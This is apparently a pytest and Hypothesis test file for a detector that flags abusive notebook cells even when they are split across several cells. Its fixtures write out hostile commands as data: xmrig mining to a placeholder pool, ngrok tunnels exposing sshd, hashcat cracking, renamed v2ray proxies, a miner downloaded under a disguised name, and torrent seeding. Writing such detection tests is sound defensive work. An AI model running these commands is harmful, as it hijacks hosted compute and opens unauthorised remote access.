"""A kernel's cells are one story: what prepares and what acts may stand in different cells."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mutirao.detect.engine import Engine
from mutirao.detect.finding import Finding, Level
from mutirao.detect.memory import MOST_FACTS, MOST_HELD, MOST_NAMES, MOST_UNREAD, Memory
from mutirao.detect.pack import default_pack

ENGINE = Engine(default_pack())

# Lines that stand for themselves: together, in any number of cells, they do what they do.
LINES = (
    "tool = 'hash'",
    "tool = tool + 'cat'",
    "!{tool} -m 0 -a 3 h.txt",
    "import subprocess as s",
    "s.call('/usr/sbin/sshd -D', shell=True)",
    "go = s.call",
    "go('ngrok tcp 22', shell=True)",
    "with open('run.sh', 'w') as f:\n    f.write('./xmrig -o pool.example.org:3333 -u w')",
    "!bash run.sh",
    "!cp ./v2ray ./trainer",
    "!./trainer run -c c.json",
    "!python3 -m http.server 8000",
    "!ngrok http 8000",
    "def shell(c):\n    import os\n    os.system(c)",
    "shell('aria2c --seed-time=0 magnet:?xt=urn:btih:aa')",
    "x = [1, 2, 3]",
    "print('hashcat -m 0 h.txt')",
)


def _one_by_one(cells: list[str], *, handed_on: bool) -> list[tuple[Finding, ...]]:
    memory, found = Memory(), []
    for code in cells:
        if handed_on:
            memory = Memory.from_document(json.loads(json.dumps(memory.document())))
        found.append(ENGINE.scan(code, "python", memory))
    return found


def _gravest(found: list[tuple[Finding, ...]]) -> dict[str, Level]:
    out: dict[str, Level] = {}
    for finding in sorted((f for findings in found for f in findings), key=lambda f: f.level):
        out[finding.category] = finding.level
    return {category: level for category, level in out.items() if level >= Level.WARN}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(LINES), max_size=12), st.data())
def test_the_verdict_does_not_depend_on_where_the_cells_are_cut(lines: list[str], data: st.DataObject) -> None:
    """The same lines as one cell, and as many cells sent one by one through another process, are judged alike.

    Up to the first cell that is stopped: what never ran is no part of the story.
    """
    cuts = data.draw(st.sets(st.integers(1, max(1, len(lines) - 1))))
    cells: list[list[str]] = [[]]
    for number, line in enumerate(lines):
        if number in cuts:
            cells.append([])
        cells[-1].append(line)
    split = ["\n".join(cell) for cell in cells]

    sent = _one_by_one(split, handed_on=True)
    assert sent == _one_by_one(split, handed_on=False)
    stopped = next((n for n, found in enumerate(sent) if any(f.level is Level.STOP for f in found)), len(sent))
    whole = "\n".join(split[: stopped + 1])
    assert _gravest(sent[: stopped + 1]) == _gravest(_one_by_one([whole], handed_on=False))


STORIES = {
    "written, then run": ["%%writefile a.sh\n./xmrig -o pool.example.org:3333 -u w", "!bash a.sh"],
    "a module": ["%%writefile helper.py\nimport os\nos.system('hashcat -m 0 h.txt')", "import helper"],
    "from a module": ["%%writefile helper.py\nimport os\nos.system('hashcat -m 0 h.txt')", "from helper import go"],
    "%run": ["%%writefile job.py\nimport os\nos.system('hashcat -m 0 h.txt')", "%run job.py"],
    "downloaded under another name": [
        "!wget -q -O python3x https://example.org/releases/xmrig",
        "!chmod +x python3x",
        "!./python3x -o pool.example.org:3333 -u w",
    ],
    "renamed by Python": [
        "!git clone https://github.com/facefusion/facefusion .prog",
        "import os\nos.rename('.prog/facefusion.py', '.prog/run2.py')",
        "!python .prog/run2.py headless-run -s a.jpg -t b.mp4 -o c.mp4",
    ],
    "a pool in a name": ["pool = 'stratum+tcp://eu.example.org:3333'", "x = 1", "!./worker -o {pool} -u w"],
    "written line by line": ["!echo ./xmrig > r", "!echo -o pool.example.org:3333 >> r", "f = open('r').read().replace('\\n', ' ')\n!{f}"],
    "a server, then its tunnel": ["!python3 -m http.server 8000 &", "!ngrok http 8000"],
}  # fmt: skip


@pytest.mark.parametrize("cells", STORIES.values(), ids=STORIES.keys())
def test_the_cell_that_acts_is_stopped_on_a_line_of_its_own(cells: list[str]) -> None:
    found = _one_by_one(cells, handed_on=True)[-1]
    assert any(f.level is Level.STOP for f in found)
    assert all(1 <= f.line <= cells[-1].count("\n") + 1 for f in found)


QUIET = {
    "written and run": ["%%writefile a.sh\necho hello", "!bash a.sh", "!ls"],
    "a name bound anew": ["tool = 'hashcat'", "tool = 'ls'", "!{tool} -m 0 h.txt"],
    "a file written anew": [
        "open('a.sh', 'w').write('hashcat -m 0')",
        "open('a.sh', 'w').write('ls')",
        "!bash a.sh",
    ],
    "a board and its page": ["!tensorboard --logdir runs &", "!ngrok http 6006"],
    "threads first, files later": ["import threading", "import socket\ns = socket.socket()", "s.sendall(data)"],
}


@pytest.mark.parametrize("cells", QUIET.values(), ids=QUIET.keys())
def test_a_harmless_story_stays_quiet(cells: list[str]) -> None:
    assert _gravest(_one_by_one(cells, handed_on=True)) == {}


def test_a_cell_that_was_stopped_is_no_evidence_against_the_next() -> None:
    tunnel, served = "!ngrok http 8000", "!python3 -m http.server 8000 --bind 127.0.0.1"
    assert _gravest(_one_by_one([tunnel, served], handed_on=False))
    memory = Memory()
    assert any(f.level is Level.STOP for f in ENGINE.scan(f"{tunnel}\n!ngrok tcp 22", "python", memory))
    assert ENGINE.scan(served, "python", memory) == ()


def test_a_kernel_that_begins_anew_keeps_its_files_alone() -> None:
    memory = Memory()
    for cell in ("%%writefile a.sh\n./xmrig -o pool.example.org:3333 -u w", "import os\ngo = os.system"):
        ENGINE.scan(cell, "python", memory)
    memory.restarted()
    assert ENGINE.scan("go('ngrok tcp 22')", "python", memory) == ()
    assert ENGINE.scan("!bash a.sh", "python", memory)


def test_what_is_remembered_is_bounded() -> None:
    memory = Memory()
    for number in range(300):
        ENGINE.scan(f"v{number} = {number}" + " # word" * 500, "python", memory)
        ENGINE.scan(
            f"!echo {'x' * 3000} > f{number}\nimport threading as t{number}\nn{number} = 'xmrig' * 900",
            "python",
            memory,
        )
    for number in range(30):
        name = "n" * 100_000 + str(number)
        ENGINE.scan(f"!echo word\nimport os as {name}\ndef f{name}(c):\n    os.system(c)", "python", memory)
    folder = memory.folder
    assert sum(map(len, folder.wrappers)) <= MOST_HELD
    assert sum(len(code) for code, _ in memory.unread) <= MOST_UNREAD
    assert len(memory.facts) <= MOST_FACTS
    for held in (folder.names, folder.files, folder.aliases, folder.stands_for, folder.environment):
        assert len(held) <= MOST_NAMES
        assert sum(len(v) for v in held.values() if isinstance(v, str)) <= MOST_HELD
    assert len(json.dumps(memory.document())) < 2_000_000
